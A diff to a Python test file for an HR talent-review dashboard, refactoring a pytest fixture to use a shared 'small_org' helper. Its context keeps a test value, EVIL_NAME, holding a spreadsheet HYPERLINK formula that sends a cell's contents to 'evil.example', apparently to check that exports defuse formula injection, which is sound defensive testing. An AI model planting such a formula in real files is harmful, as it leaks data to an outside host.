@@ -25,7 +25,7 @@ from dashboard import auth, nominations, plans, reviews, workspace
 from pipelines import export
 from pipelines.cli import main
 from pipelines.ingest import ingest
-from tests.conftest import TODAY
+from tests.conftest import TODAY, small_org
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Sue")'
 FILES = {
@@ -53,17 +53,7 @@ def at(day: str) -> datetime:
 
 @pytest.fixture
 def reviewed(tmp_path: Path, monkeypatch) -> Path:
-    files = tmp_path / "files"
-    files.mkdir()
-    for name, text in FILES.items():
-        (files / name).write_text(text, encoding="utf-8")
-    db = tmp_path / "talent.duckdb"
-    ingest([files], db, today=TODAY)
-    monkeypatch.setenv("TALENT_DB", str(db))
-    monkeypatch.setenv("TALENT_WORKSPACE", str(tmp_path / "workspace.duckdb"))
-    monkeypatch.setenv("TALENT_BCRYPT_ROUNDS", "4")
-    for who in (HEAD_SALES, HEAD_RD):
-        auth.create_user(who.username, who.role, "a-long-password", who.departments)
+    db = small_org(tmp_path, monkeypatch, FILES, (HEAD_SALES, HEAD_RD))
     for employee_id, department in (("S1", "Sales"), ("S2", "Sales"), ("R1", "R&D"), ("O1", "Ops/East [B]")):
         nominations.record(employee_id, department, "nominate", "meets the rules", "hr", "ready_1_2_years")
     plans.add_template_item(HEAD_SALES, "Sales", "course", "Negotiation Skills", 3)  # due 2026-04-15 for a plan from 2026-01-15
